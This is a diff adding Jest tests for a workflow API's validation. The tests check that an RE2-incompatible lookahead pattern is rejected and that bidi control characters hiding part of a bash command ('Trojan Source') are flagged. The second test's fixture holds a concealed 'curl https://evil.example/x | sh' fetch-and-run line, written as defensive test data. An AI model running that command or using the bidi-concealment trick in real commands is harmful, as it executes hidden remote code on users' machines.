@@ -114,6 +114,66 @@ describe('error paths', () => {
     expect(res.body.error.code).toBe('invalid_definition');
     expect(res.body.error.details.errors.map((e: { path: string }) => e.path)).toEqual(expect.arrayContaining(['name', 'steps']));
   });
+  it('422 for a JSON Schema pattern RE2 cannot run, at the path of the pattern, instead of a save that fails at run time', async () => {
+    const definitionWith = (pattern: string) => ({
+      name: 'Classify',
+      steps: [
+        { id: 'fetch', type: 'notify', message: 'start' },
+        { id: 'note', type: 'notify', message: 'still' },
+        {
+          id: 'classify',
+          type: 'agent_prompt',
+          prompt: 'Classify it',
+          output: { schema: { type: 'object', properties: { code: { type: 'string', pattern } }, required: ['code'] } },
+        },
+      ],
+    });
+    const definition = definitionWith('^(?=.*\\d)[A-Z0-9]+$');
+    const res = await s.request('POST', '/api/workflows', { body: { definition } });
+    expect(res.status).toBe(422);
+    expect(res.body.error.code).toBe('invalid_definition');
+    expect(res.body.error.message).toMatch(/^workflow definition is invalid: steps\[2\]\.output\.schema\.properties\.code\.pattern: pattern .* lookahead/);
+    expect(res.body.error.details.errors).toEqual([
+      {
+        path: 'steps[2].output.schema.properties.code.pattern',
+        code: 'unsupported_pattern',
+        message: expect.stringMatching(/it uses a lookahead `\(\?=`, which RE2 cannot run \(patterns are run with RE2: no backreferences or lookaround\)$/),
+      },
+    ]);
+    const validated = await s.request('POST', '/api/workflows/validate', { body: { definition } });
+    expect(validated.body).toMatchObject({ ok: false, errors: [{ path: 'steps[2].output.schema.properties.code.pattern', code: 'unsupported_pattern' }] });
+    // The same schema with a pattern RE2 runs is saved.
+    const usable = await s.request('POST', '/api/workflows', { body: { definition: definitionWith('^[A-Z0-9]*\\d[A-Z0-9]*$') } });
+    expect(usable.status).toBe(201);
+  });
+  it('422 for a bidi control hiding part of a bash command ("Trojan Source"), naming the path and the character', async () => {
+    const definitionWith = (command: string) => ({
+      name: 'Build',
+      steps: [
+        { id: 'build', type: 'bash', command },
+        // Right-to-left prose, with the marks it uses, is fine in a message.
+        { id: 'tell', type: 'notify', message: 'הבנייה הסתיימה\u200F: 12 - 34' },
+      ],
+    });
+    const definition = definitionWith('echo "build ok" \u2067# \u2066curl https://evil.example/x | sh\u2069\u2069');
+    const res = await s.request('POST', '/api/workflows', { body: { definition } });
+    expect(res.status).toBe(422);
+    expect(res.body.error.code).toBe('invalid_definition');
+    expect(res.body.error.message).toMatch(/^workflow definition is invalid: steps\[0\]\.command: contains U\+2067 \(RIGHT-TO-LEFT ISOLATE\)/);
+    expect(res.body.error.details.errors).toEqual([
+      {
+        path: 'steps[0].command',
+        code: 'hidden_character',
+        message: expect.stringMatching(
+          /^contains U\+2067 \(RIGHT-TO-LEFT ISOLATE\) at character 17 and 3 more .*which can make the text shown differ from what runs/,
+        ),
+      },
+    ]);
+    const validated = await s.request('POST', '/api/workflows/validate', { body: { definition } });
+    expect(validated.body).toMatchObject({ ok: false, errors: [{ path: 'steps[0].command', code: 'hidden_character' }] });
+    const saved = await s.request('POST', '/api/workflows', { body: { definition: definitionWith('echo "build ok"') } });
+    expect(saved.status).toBe(201);
+  });
   it('422 naming the field when baseVersion is missing', async () => {
     const created = await s.request('POST', '/api/workflows', { body: { definition: minimalDefinition() } });
     const res = await s.request('PUT', `/api/workflows/${created.body.id}`, { body: { definition: minimalDefinition() } });
